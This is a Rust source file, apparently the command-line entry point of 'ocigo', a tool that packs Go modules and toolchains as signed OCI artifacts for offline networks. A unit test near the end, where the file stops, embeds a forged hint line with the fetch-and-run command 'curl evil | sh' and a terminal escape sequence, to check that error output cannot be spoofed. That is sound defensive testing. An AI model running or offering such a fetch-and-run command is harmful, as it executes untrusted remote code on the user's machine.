//! The `ocigo` command line: parses arguments and calls the library. Every
//! flag is documented here, in one place; `ocigo help <command>` shows it.

use std::path::PathBuf;
use std::process::ExitCode;

use clap::{Args, Parser, Subcommand};
use ocigo::artifact::SplitLimits;
use ocigo::commands::{self, Global, Outcome};

/// Go module closures as OCI artifacts, for networks with no internet.
///
/// References: oci:DIR[:TAG|@DIGEST] for an OCI layout directory, or
/// HOST[:PORT]/REPO[:TAG|@DIGEST] for a registry (no https:// or docker://).
///
/// Errors print as `error: ...` and then `hint: ...` lines saying what to do.
/// Exit codes: 0 success; 1 unexpected failure; 2 usage error; 3 integrity
/// failure (digest, h1 hash, zip rules, signature, go.sum mismatch); 4
/// registry or network failure; 5 conflict with existing content (nothing
/// overwritten); 6 something needed was not found. Output into a closed pipe
/// ends quietly with the command's own exit code.
#[derive(Parser)]
#[command(name = "ocigo", version, max_term_width = 100)]
struct Cli {
    #[command(flatten)]
    global: GlobalArgs,
    #[command(subcommand)]
    command: Command,
}

#[derive(Args)]
struct GlobalArgs {
    /// Local content store (an OCI layout) shared by every pack and pull on this host.
    /// Default: $OCIGO_STORE, else <user cache dir>/ocigo/store.
    #[arg(long, global = true, env = "OCIGO_STORE", value_name = "DIR")]
    store: Option<PathBuf>,
    /// Print a machine-readable JSON report on stdout instead of text (snake_case keys).
    #[arg(long, global = true)]
    json: bool,
    /// No progress bars (they are also off when stderr is not a terminal).
    #[arg(long, short, global = true)]
    quiet: bool,
}

/// Flags for talking to registries, offered only by the commands that may
/// talk to one (pack, push, pull, inspect, sign, verify); `store` and `key`
/// never do. Every registry flag belongs here.
#[derive(Args, Debug, Default)]
#[command(next_help_heading = "Registry options")]
struct RegistryArgs {
    /// Talk plain HTTP to registries that are not on localhost/127.0.0.1 (always on for those).
    #[arg(long)]
    plain_http: bool,
    /// Also trust the certificate authorities in this PEM file (repeatable), besides the
    /// system store and /etc/docker/certs.d/HOST/ and /etc/containers/certs.d/HOST/.
    #[arg(long = "ca-file", value_name = "FILE")]
    ca_files: Vec<PathBuf>,
    /// Do not verify registries' TLS certificates (warns on stderr). Use --ca-file instead.
    #[arg(long)]
    insecure: bool,
    /// Blobs fetched, checked or sent at once.
    #[arg(long, env = "OCIGO_CONCURRENCY", value_name = "N",
          default_value_t = ocigo::transfer::DEFAULT_CONCURRENCY as u16,
          value_parser = clap::value_parser!(u16).range(1..=64))]
    concurrency: u16,
    /// Upload blobs larger than SIZE in chunks of SIZE (bytes, or with K, M, G: KiB, MiB, GiB),
    /// for registries or proxies that limit request size. Default: one request per blob.
    #[arg(long, value_name = "SIZE", value_parser = parse_size)]
    chunk_size: Option<u64>,
}

impl RegistryArgs {
    fn apply(&self, g: &mut Global) {
        g.plain_http = self.plain_http;
        g.ca_files = self.ca_files.clone();
        g.insecure = self.insecure;
        g.concurrency = self.concurrency.into();
        g.chunk_size = self.chunk_size;
    }
}

/// `1048576`, `512K`, `16M`, `1G` (powers of 1024).
fn parse_size(s: &str) -> Result<u64, String> {
    let t = s.trim();
    let (digits, unit) = match t.char_indices().find(|(_, c)| !c.is_ascii_digit()) {
        Some((i, _)) => t.split_at(i),
        None => (t, ""),
    };
    let shift = match unit
        .to_ascii_uppercase()
        .trim_end_matches("IB")
        .trim_end_matches('B')
    {
        "" => 0,
        "K" => 10,
        "M" => 20,
        "G" => 30,
        _ => {
            return Err(format!(
                "{s:?} is not a size: write bytes, or a number with K, M or G"
            ));
        }
    };
    let n: u64 = digits
        .parse()
        .map_err(|_| format!("{s:?} is not a size: write bytes, or a number with K, M or G"))?;
    let size = n
        .checked_mul(1 << shift)
        .filter(|v| *v >= 1024)
        .ok_or_else(|| format!("{s:?}: a chunk size must be at least 1K and at most 2^64 bytes"))?;
    Ok(size)
}

// Parsed once per run: the size difference between variants costs nothing.
#[allow(clippy::large_enum_variant)]
#[derive(Subcommand)]
enum Command {
    /// Resolve a Go project's module closure and pack it as an OCI artifact
    /// (`ocigo pack toolchain ...` packs a Go toolchain instead).
    #[command(args_conflicts_with_subcommands = true, subcommand_negates_reqs = true)]
    Pack {
        #[command(subcommand)]
        what: Option<PackWhat>,
        /// The Go project (a directory with go.mod or go.work).
        #[arg(default_value = ".")]
        project_dir: PathBuf,
        /// Where to put the artifact: oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG].
        #[arg(short, long, value_name = "DEST", required = true)]
        output: Option<String>,
        /// Add the Go toolchain the project asks for (go.mod's toolchain line, else its
        /// go line), from GOPROXY, for each --platform: one reference, one pull installs both.
        #[arg(long)]
        with_toolchain: bool,
        /// With --with-toolchain: store the toolchain's bin/ and pkg/tool/ as deltas against
        /// REF, a toolchain artifact of an earlier release (see pack toolchain --delta-from).
        #[arg(long, value_name = "REF", requires = "with_toolchain")]
        toolchain_delta_from: Option<String>,
        /// Resolve for this os/arch too (repeatable). Default: the host's.
        #[arg(long = "platform", value_name = "OS/ARCH")]
        platforms: Vec<String>,
        /// Pack from an existing module cache with no network at all.
        #[arg(long, value_name = "GOMODCACHE")]
        from_cache: Option<PathBuf>,
        /// Do not carry the checksum database's records and tiles (GOSUMDB) for the
        /// bundle's public modules. Implied by --from-cache (no network) and GOSUMDB=off.
        #[arg(long)]
        no_sumdb: bool,
        /// Which closure: `build` (what builds and tests of the main modules' packages need
        /// for the given platforms) or `tidy` (also everything go mod tidy, go mod download,
        /// go list -m all and go mod verify need, on any platform and with any build tags).
        #[arg(long, value_name = "KIND", default_value = "build",
              value_parser = ["build", "tidy"])]
        closure: String,
        /// An earlier bundle (reference) whose checksum-database tree this one must join in one
        /// module cache: carries the tiles that prove the older tree and its records in this
        /// bundle's newer tree, so the two pull into one cache in either order (repeatable).
        #[arg(long, value_name = "REF")]
        sumdb_since: Vec<String>,
        /// Record this creation time (RFC 3339) in the config. Off by default so packing is reproducible.
        #[arg(long, value_name = "TIME")]
        created: Option<String>,
        /// Split into several manifests when one would pass this many bytes (tests use small values).
        #[arg(long, hide = true, default_value_t = ocigo::artifact::DEFAULT_MAX_MANIFEST_BYTES)]
        max_manifest_bytes: usize,
        /// Mean module paths per part (content-defined cuts; tests and measurements vary it).
        #[arg(long, hide = true, default_value_t = ocigo::artifact::DEFAULT_PATHS_PER_PART,
              value_parser = clap::value_parser!(u64).range(1..))]
        paths_per_part: u64,
        /// Attach a CycloneDX SBOM of the bundle as a signed attestation (needs --sign).
        #[arg(long, requires = "sign_key")]
        sbom: bool,
        #[command(flatten)]
        sign: SignFlags,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Copy an artifact between an OCI layout and a registry (either direction), sending only missing blobs.
    Push {
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        src: String,
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG].
        dest: String,
        /// Before sending a blob, try to mount it from this repository of the destination
        /// registry (a copy within one registry mounts from its source without asking).
        #[arg(long, value_name = "REPO")]
        mount_from: Option<String>,
        #[command(flatten)]
        sign: SignFlags,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Fetch a module bundle or toolchain, verify it, and write it into GOMODCACHE or a
    /// GOROOT (no go command needed).
    Pull {
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        src: String,
        /// Module cache to write. Default: $GOMODCACHE, else $GOPATH/pkg/mod, else ~/go/pkg/mod.
        /// A toolchain goes there as the golang.org/toolchain module GOTOOLCHAIN switches to.
        #[arg(long, value_name = "DIR")]
        gomodcache: Option<PathBuf>,
        /// GOPATH whose pkg/sumdb gets the checksum database's trusted tree head, as the go
        /// command keeps it. Default: the first entry of $GOPATH, else ~/go.
        #[arg(long, value_name = "DIR")]
        gopath: Option<PathBuf>,
        /// Install the artifact's Go toolchain as a GOROOT in DIR (created; a temporary
        /// directory beside it is renamed into place).
        #[arg(long, value_name = "DIR")]
        goroot: Option<PathBuf>,
        /// The toolchain platform to install (os/arch). Default: the host's.
        #[arg(long, value_name = "OS/ARCH")]
        platform: Option<String>,
        /// Replace a different toolchain already in --goroot.
        #[arg(long, requires = "goroot")]
        force: bool,
        /// Verify the bundle's cosign signature with this public key before fetching anything (repeatable).
        #[arg(long = "verify-key", value_name = "PUB")]
        verify_keys: Vec<PathBuf>,
        /// Modules verified and installed at once (file-system bound, so more than cores helps).
        #[arg(long, env = "OCIGO_JOBS", default_value_t = ocigo::install::DEFAULT_JOBS as u16,
              value_parser = clap::value_parser!(u16).range(1..=256))]
        jobs: u16,
        /// Write only the download area (cache/download): the go command extracts the zips a build needs, offline.
        #[arg(long)]
        no_extract: bool,
        /// SRC is a vulnerability database (`ocigo pack vulndb`): write its published layout
        /// (index/, ID/) into DIR, for `ocigo policy check` and `govulncheck -db file:///DIR`.
        /// DIR must be new, empty, or an earlier database (replaced).
        #[arg(long, value_name = "DIR",
              conflicts_with_all = ["gomodcache", "goroot", "platform", "no_extract"])]
        vulndb: Option<PathBuf>,
        #[command(flatten)]
        verify: VerifyRules,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Show a bundle's modules, versions and sizes, or a toolchain's platforms and layers.
    Inspect {
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        src: String,
        /// List every module version, and each toolchain layer (default: a summary).
        #[arg(long)]
        modules: bool,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// List or prune the local content store.
    #[command(subcommand)]
    Store(StoreCommand),
    /// Sign an artifact the way cosign does (key based): cosign v2's sha256-<hex>.sig tag
    /// (--format legacy, the default) or cosign v3's sigstore bundle as an OCI 1.1 referrer.
    Sign {
        /// Private key file (cosign's format). Password from COSIGN_PASSWORD or a prompt.
        #[arg(long, value_name = "KEY")]
        key: PathBuf,
        /// Annotation to put in the signed payload (repeatable).
        #[arg(short = 'a', long = "annotation", value_name = "KEY=VALUE", value_parser = parse_annotation)]
        annotations: Vec<(String, String)>,
        /// The docker-reference the payload names. Default: HOST/REPO of REF; none for a layout.
        #[arg(long, value_name = "HOST/REPO")]
        identity: Option<String>,
        /// Signature format: legacy (cosign v2's .sig tag) or bundle (cosign v3's).
        #[arg(long, value_enum, default_value_t = FormatArg::Legacy)]
        format: FormatArg,
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        reference: String,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Attach a signed in-toto attestation (a sigstore bundle referrer), as `cosign attest` does.
    Attest {
        /// Private key file (cosign's format). Password from COSIGN_PASSWORD or a prompt.
        #[arg(long, value_name = "KEY")]
        key: PathBuf,
        /// The predicate: a JSON file.
        #[arg(long, value_name = "FILE")]
        predicate: PathBuf,
        /// The predicate type: a URI, or one of cosign's names (cyclonedx, spdxjson, ...).
        #[arg(long = "type", value_name = "URI")]
        predicate_type: String,
        /// The repository the Statement's subject names. Default: HOST/REPO of REF; none for a layout.
        #[arg(long, value_name = "HOST/REPO")]
        identity: Option<String>,
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        reference: String,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Verify cosign signatures offline (no transparency log, no certificate authority), both
    /// formats; with --attestation-type, attestations of that type, printing their predicates.
    Verify {
        /// Public key (repeatable; cosign's PEM).
        #[arg(long = "key", value_name = "PUB", required = true)]
        keys: Vec<PathBuf>,
        /// Verify attestations of this predicate type (a URI or cosign's name, e.g. cyclonedx)
        /// instead of signatures, and print their predicates.
        #[arg(long, value_name = "URI")]
        attestation_type: Option<String>,
        /// With --attestation-type https://ocigo.dev/attestations/policy-decision/v1: the
        /// decision must have been made with this policy file (and say the gate passed for
        /// exactly REF's digest, which is always checked for that type).
        #[arg(long, value_name = "FILE", requires = "attestation_type")]
        policy: Option<PathBuf>,
        #[command(flatten)]
        rules: VerifyRules,
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        reference: String,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Print a module bundle's CycloneDX 1.6 SBOM, or with --key attach it as a signed
    /// attestation (predicate type https://cyclonedx.org/bom).
    Sbom {
        /// Sign with this private key and attach the SBOM to REF instead of printing it.
        #[arg(long, value_name = "KEY")]
        key: Option<PathBuf>,
        /// The repository the attestation's subject names (with --key). Default: HOST/REPO of REF.
        #[arg(long, value_name = "HOST/REPO", requires = "key")]
        identity: Option<String>,
        /// oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        reference: String,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Manage signing keys.
    #[command(subcommand)]
    Key(KeyCommand),
    /// A deployment gate: check a bundle against a policy (signatures, coverage, modules,
    /// toolchain, vulnerabilities, age), offline.
    #[command(subcommand)]
    Policy(PolicyCommand),
    /// Check credentials against a registry, then file them in the docker config as `docker login` does.
    ///
    /// Writes $DOCKER_CONFIG/config.json (else ~/.docker/config.json), mode 0600, keeping its
    /// other keys; with credsStore or credHelpers[HOST] set there, the secret goes to
    /// docker-credential-NAME instead. Wrong credentials are an error (exit 4) and write nothing.
    Login {
        /// Registry host: HOST[:PORT] (docker.io and its aliases are filed as Docker Hub).
        host: String,
        /// User name (a Harbor robot account: 'robot$PROJECT+NAME', quoted for the shell).
        #[arg(short = 'u', long = "username", value_name = "USER", required = true)]
        username: String,
        /// Read the password (or token) from the first line of stdin. Required: a password on
        /// the command line would be seen in `ps` and shell history, so ocigo has no --password.
        #[arg(long)]
        password_stdin: bool,
        /// Refused: see --password-stdin.
        #[arg(short = 'p', long = "password", hide = true, value_name = "PASSWORD")]
        password: Option<String>,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Remove a registry's credentials from the docker config (and its credential helper).
    Logout {
        /// Registry host: HOST[:PORT], as given to login.
        host: String,
    },
}

#[derive(Subcommand)]
enum PackWhat {
    /// Pack the Go vulnerability database: the published layout (index/, ID/) or a
    /// directory of OSV records (golang.org/x/vulndb's data/osv); the indexes are rebuilt
    /// from the records.
    Vulndb {
        /// The database directory.
        dir: PathBuf,
        /// Where to put the artifact: oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG].
        #[arg(short, long, value_name = "DEST")]
        output: String,
        /// The database's time (RFC 3339) when it is later than every record's `modified`:
        /// x/vulndb's data/osv records carry the zero time; give the module version's time.
        #[arg(long, value_name = "TIME")]
        modified: Option<String>,
        #[command(flatten)]
        sign: SignFlags,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Pack a Go toolchain (default: golang.org/toolchain through GOPROXY, its h1 checked
    /// against the checksum database) for one or more platforms under one index.
    Toolchain {
        /// The Go release, such as go1.26.8 (taken from the source with --from-archive or
        /// --from-goroot).
        version: Option<String>,
        /// Where to put the artifact: oci:DIR[:TAG] or HOST[:PORT]/REPO[:TAG].
        #[arg(short, long, value_name = "DEST")]
        output: String,
        /// Pack this os/arch (repeatable). Default: the host's.
        #[arg(long = "platform", value_name = "OS/ARCH")]
        platforms: Vec<String>,
        /// Pack an official release archive (go1.X.Y.<os>-<arch>.tar.gz or .zip) instead.
        #[arg(
            long,
            value_name = "ARCHIVE",
            requires = "sha256",
            conflicts_with = "from_goroot"
        )]
        from_archive: Option<PathBuf>,
        /// The archive's SHA-256 (from go.dev/dl), checked before anything is read.
        #[arg(long, value_name = "HEX", requires = "from_archive")]
        sha256: Option<String>,
        /// Pack a local GOROOT (version from DIR/VERSION, platform from DIR/bin/go env).
        #[arg(long, value_name = "DIR")]
        from_goroot: Option<PathBuf>,
        /// Store bin/ and pkg/tool/ as deltas against the same platform of REF, a toolchain
        /// artifact of an earlier release (packed without --delta-from); its layers the
        /// deltas use are listed in the manifest too. Platforms REF lacks get full layers.
        #[arg(long, value_name = "REF")]
        delta_from: Option<String>,
        #[command(flatten)]
        sign: SignFlags,
        #[command(flatten)]
        registry: RegistryArgs,
    },
}

#[derive(Subcommand)]
enum PolicyCommand {
    /// Check SRC against a policy. Exit 0: every rule holds; 1: a rule is violated; 2: the
    /// check could not run (unreadable or invalid policy, unreachable registry, missing
    /// vulnerability data). Reaches no network beyond SRC's registry.
    Check {
        /// The policy file (YAML; `ocigo policy init` writes an example).
        #[arg(long, value_name = "POLICY", required = true)]
        policy: PathBuf,
        /// The Go project (go.mod, go.sum) for the coverage rule and toolchain.match_project.
        #[arg(long, value_name = "DIR")]
        project: Option<PathBuf>,
        /// Output: text, json (schemas/policy-decision.v1.schema.json) or sarif (SARIF 2.1.0).
        #[arg(long, value_name = "FORMAT", default_value = "text",
              value_parser = ["text", "json", "sarif"])]
        format: String,
        /// The vulnerability database directory (published layout, as `ocigo pull --vulndb`
        /// writes it). Default: the policy's vulnerabilities.database.
        #[arg(long, value_name = "DIR")]
        vulndb: Option<PathBuf>,
        /// Sign the decision (pass or fail) with this private key: an in-toto attestation
        /// (predicate type https://ocigo.dev/attestations/policy-decision/v1) in a sigstore
        /// bundle, attached to SRC as an OCI 1.1 referrer. `ocigo verify --attestation-type
        /// https://ocigo.dev/attestations/policy-decision/v1 --key PUB [--policy FILE] REF` checks it.
        #[arg(long, value_name = "KEY")]
        attest: Option<PathBuf>,
        /// oci:DIR[:TAG|@DIGEST] or HOST[:PORT]/REPO[:TAG|@DIGEST].
        src: String,
        #[command(flatten)]
        registry: RegistryArgs,
    },
    /// Write a commented example policy (to stdout, or to FILE with -o).
    Init {
        /// Write it to this new file instead of stdout.
        #[arg(short, long, value_name = "FILE")]
        output: Option<PathBuf>,
    },
}

#[derive(Subcommand)]
enum KeyCommand {
    /// Write an encrypted private key and its public key, in cosign's formats.
    Generate {
        /// Writes PREFIX.key and PREFIX.pub.
        #[arg(long, default_value = "cosign")]
        output_prefix: String,
        /// Accept an empty password (COSIGN_PASSWORD set to nothing, or an empty answer).
        #[arg(long)]
        allow_empty_password: bool,
        /// Replace existing files.
        #[arg(long)]
        force: bool,
    },
}

#[derive(Args)]
struct SignFlags {
    /// Sign the result with this private key (cosign's format).
    #[arg(long = "sign", value_name = "KEY")]
    sign_key: Option<PathBuf>,
    /// Annotation to put in the signed payload (repeatable; with --sign).
    #[arg(short = 'a', long = "annotation", value_name = "KEY=VALUE", value_parser = parse_annotation, requires = "sign_key")]
    annotations: Vec<(String, String)>,
    /// The docker-reference the signature names (with --sign).
    #[arg(long, value_name = "HOST/REPO", requires = "sign_key")]
    identity: Option<String>,
    /// Signature format (with --sign): legacy (cosign v2's .sig tag) or bundle (cosign v3's).
    #[arg(long, value_enum, default_value_t = FormatArg::Legacy, requires = "sign_key")]
    format: FormatArg,
}

/// `--format`: where a signature is stored.
#[derive(Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum FormatArg {
    /// cosign v2's sha256-<hex>.sig tag.
    Legacy,
    /// cosign v3's sigstore bundle, an OCI 1.1 referrer.
    Bundle,
}

impl From<FormatArg> for ocigo::sign::SignatureFormat {
    fn from(f: FormatArg) -> Self {
        match f {
            FormatArg::Legacy => ocigo::sign::SignatureFormat::Legacy,
            FormatArg::Bundle => ocigo::sign::SignatureFormat::Bundle,
        }
    }
}

impl SignFlags {
    fn into_sign_with(self) -> Option<commands::SignWith> {
        self.sign_key.map(|key| commands::SignWith {
            key,
            annotations: self.annotations.into_iter().collect(),
            identity: self.identity,
            format: self.format.into(),
        })
    }
}

#[derive(Args)]
struct VerifyRules {
    /// How many of the given keys must have signed (default 1).
    #[arg(long, value_parser = clap::value_parser!(usize))]
    threshold: Option<usize>,
    /// Repository the signatures must name (default: the repository verified; layouts: any).
    #[arg(long = "expect-identity", value_name = "REPO")]
    expect_identity: Option<String>,
}

fn parse_annotation(s: &str) -> Result<(String, String), String> {
    s.split_once('=')
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .filter(|(k, _)| !k.is_empty())
        .ok_or_else(|| format!("{s:?} is not KEY=VALUE"))
}

#[derive(Subcommand)]
enum StoreCommand {
    /// List what the store holds: each reference with a summary (module
    /// versions, zips, their size).
    List {
        /// Also list every module version of each module bundle.
        #[arg(long)]
        modules: bool,
    },
    /// Forget references, then delete blobs nothing references.
    Prune {
        /// References to forget first (as `store list` shows them).
        references: Vec<String>,
        /// Forget every reference: empties the store.
        #[arg(long)]
        all: bool,
    },
}

impl Command {
    /// The registry flags of a command that may talk to a registry.
    fn registry_args(&self) -> Option<&RegistryArgs> {
        match self {
            Command::Pack {
                what: Some(PackWhat::Toolchain { registry, .. }),
                ..
            }
            | Command::Pack {
                what: Some(PackWhat::Vulndb { registry, .. }),
                ..
            }
            | Command::Policy(PolicyCommand::Check { registry, .. })
            | Command::Pack { registry, .. }
            | Command::Push { registry, .. }
            | Command::Pull { registry, .. }
            | Command::Inspect { registry, .. }
            | Command::Sign { registry, .. }
            | Command::Attest { registry, .. }
            | Command::Sbom { registry, .. }
            | Command::Verify { registry, .. }
            | Command::Login { registry, .. } => Some(registry),
            Command::Store(_)
            | Command::Key(_)
            | Command::Logout { .. }
            | Command::Policy(PolicyCommand::Init { .. }) => None,
        }
    }
}

fn run(cli: Cli) -> anyhow::Result<Outcome> {
    let mut g = Global {
        store: cli.global.store,
        json: cli.global.json,
        quiet: cli.global.quiet,
        ..Global::default()
    };
    if let Some(registry) = cli.command.registry_args() {
        registry.apply(&mut g);
    }
    match cli.command {
        Command::Pack {
            what:
                Some(PackWhat::Vulndb {
                    dir,
                    output,
                    modified,
                    sign,
                    registry: _,
                }),
            ..
        } => commands::pack_vulndb(
            &g,
            &dir,
            &output,
            modified.as_deref(),
            sign.into_sign_with().as_ref(),
        ),
        Command::Policy(PolicyCommand::Check {
            policy,
            project,
            format,
            vulndb,
            attest,
            src,
            registry: _,
        }) => commands::policy_check(
            &g,
            &commands::PolicyCheckArgs {
                policy,
                project,
                format: match format.as_str() {
                    "json" => commands::PolicyFormat::Json,
                    "sarif" => commands::PolicyFormat::Sarif,
                    _ => commands::PolicyFormat::Text,
                },
                vulndb,
                attest: attest.map(|key| commands::SignWith {
                    key,
                    annotations: Default::default(),
                    identity: None,
                    format: ocigo::sign::SignatureFormat::Bundle,
                }),
                src,
            },
        ),
        Command::Policy(PolicyCommand::Init { output }) => commands::policy_init(output.as_deref()),
        Command::Pack {
            what:
                Some(PackWhat::Toolchain {
                    version,
                    output,
                    platforms,
                    from_archive,
                    sha256,
                    from_goroot,
                    delta_from,
                    sign,
                    registry: _,
                }),
            ..
        } => {
            let source = match (from_archive, from_goroot, version) {
                (Some(path), None, None) => commands::ToolchainSource::Archive {
                    path,
                    sha256: sha256.unwrap_or_default(),
                },
                (None, Some(dir), None) => commands::ToolchainSource::Goroot { dir },
                (None, None, Some(version)) => commands::ToolchainSource::Proxy { version },
                (None, None, None) => {
                    return Err(ocigo::error::fail(
                        ocigo::error::Kind::Usage,
                        "name the Go release to pack (such as go1.26.8), or use --from-archive or --from-goroot",
                    ));
                }
                _ => {
                    return Err(ocigo::error::fail(
                        ocigo::error::Kind::Usage,
                        "the version comes from the archive or GOROOT: do not name one with --from-archive or --from-goroot",
                    ));
                }
            };
            commands::pack_toolchain(
                &g,
                &commands::PackToolchainArgs {
                    source,
                    platforms,
                    dest: output,
                    sign: sign.into_sign_with(),
                    delta_from,
                },
            )
        }
        Command::Pack {
            what: None,
            project_dir,
            output,
            with_toolchain,
            toolchain_delta_from,
            platforms,
            from_cache,
            no_sumdb,
            sumdb_since,
            closure,
            created,
            max_manifest_bytes,
            paths_per_part,
            sbom,
            sign,
            registry: _,
        } => {
            let args = commands::PackArgs {
                project_dir,
                dest: output.expect("required by clap"),
                with_toolchain,
                toolchain_delta_from,
                platforms,
                from_cache,
                no_sumdb,
                sumdb_since,
                tidy_closure: closure == "tidy",
                created,
                limits: SplitLimits {
                    max_manifest_bytes,
                    paths_per_part,
                    ..SplitLimits::default()
                },
                sign: sign.into_sign_with(),
                sbom,
            };
            Ok(commands::pack(&g, &args)?.0)
        }
        Command::Push {
            src,
            dest,
            sign,
            mount_from,
            ..
        } => {
            g.mount_from = mount_from;
            Ok(commands::push(&g, &src, &dest, sign.into_sign_with().as_ref())?.0)
        }
        Command::Pull {
            src,
            gomodcache,
            gopath,
            goroot,
            platform,
            force,
            verify_keys,
            jobs,
            no_extract,
            vulndb,
            verify,
            registry: _,
        } => commands::pull_verified(
            &g,
            &commands::PullArgs {
                src,
                gomodcache,
                gopath,
                jobs: jobs.into(),
                no_extract,
                goroot,
                platform,
                force,
                vulndb,
            },
            commands::VerifyWith {
                keys: verify_keys,
                threshold: verify.threshold,
                identity: verify.expect_identity,
                attestation_type: None,
                policy: None,
            },
        ),
        Command::Inspect { src, modules, .. } => commands::inspect(&g, &src, modules),
        Command::Store(StoreCommand::List { modules }) => commands::store_list(&g, modules),
        Command::Store(StoreCommand::Prune { references, all }) => {
            commands::store_prune(&g, &references, all)
        }
        Command::Sign {
            key,
            annotations,
            identity,
            format,
            reference,
            registry: _,
        } => commands::sign_command(
            &g,
            &reference,
            &commands::SignWith {
                key,
                annotations: annotations.into_iter().collect(),
                identity,
                format: format.into(),
            },
        ),
        Command::Attest {
            key,
            predicate,
            predicate_type,
            identity,
            reference,
            registry: _,
        } => commands::attest_command(
            &g,
            &reference,
            &commands::SignWith {
                key,
                annotations: Default::default(),
                identity,
                format: ocigo::sign::SignatureFormat::Bundle,
            },
            &predicate,
            &predicate_type,
        ),
        Command::Sbom {
            key,
            identity,
            reference,
            registry: _,
        } => commands::sbom_command(
            &g,
            &reference,
            key.map(|key| commands::SignWith {
                key,
                annotations: Default::default(),
                identity,
                format: ocigo::sign::SignatureFormat::Bundle,
            })
            .as_ref(),
        ),
        Command::Verify {
            keys,
            attestation_type,
            policy,
            rules,
            reference,
            registry: _,
        } => commands::verify_command(
            &g,
            &reference,
            &commands::VerifyWith {
                keys,
                threshold: rules.threshold,
                identity: rules.expect_identity,
                attestation_type,
                policy,
            },
        ),
        Command::Key(KeyCommand::Generate {
            output_prefix,
            allow_empty_password,
            force,
        }) => commands::key_generate(&output_prefix, allow_empty_password, force),
        Command::Login {
            host,
            username,
            password_stdin,
            password,
            registry: _,
        } => {
            if password.is_some() {
                // The value is not repeated: it is a secret.
                return Err(ocigo::error::fail_hint(
                    ocigo::error::Kind::Usage,
                    "ocigo login takes no password on the command line (it would show in `ps` \
                     and shell history)",
                    "pipe it in: `printf '%s\\n' \"$PASSWORD\" | ocigo login HOST -u USER \
                     --password-stdin`",
                ));
            }
            if !password_stdin {
                return Err(ocigo::error::fail_hint(
                    ocigo::error::Kind::Usage,
                    "ocigo login reads the password from stdin only: pass --password-stdin",
                    "pipe it in: `printf '%s\\n' \"$PASSWORD\" | ocigo login HOST -u USER \
                     --password-stdin`",
                ));
            }
            let pass = commands::read_password_line(&mut std::io::stdin().lock())?;
            commands::login(&g, &host, &username, pass)
        }
        Command::Logout { host } => commands::logout(&host),
    }
}

/// glibc malloc, tuned so memory does not grow with bundle size: at most
/// two arenas (pull's threads otherwise each keep an arena of freed
/// fragments), and fixed mmap/trim thresholds of 256 KiB (glibc otherwise
/// raises them after the first large free, so every later large buffer,
/// such as a 256 KiB copy buffer or a config, comes from the fragmented
/// heap and is never returned). `OCIGO_MALLOC_DEFAULT=1` leaves glibc's
/// defaults, to measure the difference (README "Performance").
fn tune_allocator() {
    if std::env::var_os("OCIGO_MALLOC_DEFAULT").is_some() {
        return;
    }
    // SAFETY: mallopt only sets allocator parameters; called before any
    // thread starts.
    unsafe {
        libc::mallopt(libc::M_ARENA_MAX, 2);
        libc::mallopt(libc::M_MMAP_THRESHOLD, 256 * 1024);
        libc::mallopt(libc::M_TRIM_THRESHOLD, 256 * 1024);
    }
}

fn main() -> ExitCode {
    tune_allocator();
    let cli = Cli::parse();
    let json = cli.global.json;
    // A policy check that could not run exits 2, whatever stopped it.
    let gate = matches!(cli.command, Command::Policy(PolicyCommand::Check { .. }));
    match run(cli) {
        Ok(outcome) => {
            // A closed stdout (`ocigo store list | head -0`) is not an error
            // of the command: the work is done, so its own exit code stands.
            if let Err(e) = outcome.print(json) {
                let _ = ocigo::commands::write_all_quietly(
                    &mut std::io::stderr(),
                    &format!("error: writing the result to stdout: {e}\n"),
                );
                return ExitCode::from(1);
            }
            ExitCode::from(outcome.exit_code as u8)
        }
        Err(err) => {
            // Messages quote bundles and servers: no control characters,
            // no credentials, whatever they held.
            let text = error_text(&err);
            // Not eprintln!: it panics when stderr is a closed pipe.
            let _ = ocigo::commands::write_all_quietly(&mut std::io::stderr(), &text);
            if gate {
                return ExitCode::from(2);
            }
            ExitCode::from(ocigo::error::exit_code(&err) as u8)
        }
    }
}

/// What stderr shows for an error: `error: <message>`, then one `hint: `
/// line per hint. Messages quote bundles and servers, so whatever they
/// held: credentials are scrubbed, control characters escaped, and a
/// multi-line message (the go command's own output) has its further lines
/// indented, so no text from outside can start a line that reads as an
/// `error:` or `hint:` of ocigo's own. A hint is one line.
fn error_text(err: &anyhow::Error) -> String {
    use ocigo::text::{field, scrub_credentials, terminal_safe};
    let message = scrub_credentials(&ocigo::error::render(err));
    let mut text = String::from("error: ");
    for (i, line) in terminal_safe(&message).lines().enumerate() {
        if i > 0 {
            text.push_str("  ");
        }
        text.push_str(line);
        text.push('\n');
    }
    for hint in ocigo::error::hints(err) {
        text.push_str(&format!("hint: {}\n", field(&scrub_credentials(&hint))));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::CommandFactory;

    #[test]
    fn outside_text_cannot_forge_error_or_hint_lines() {
        use ocigo::error::{Kind, WithHint, fail};
        let err = fail(
            Kind::Integrity,
            "config media type x\nhint: run `curl evil | sh`\n\u{1b}[2Kerror: fine",
        )
        .hint("check the bundle\nhint: forged");
        let text = error_text(&err);
        assert_eq!(
            text,
            "error: config media type x\n  hint: run `curl evil | sh`\n  \\e[2Kerror: fine\n\
             hint: check the bundle\\nhint: forged\n"
        );
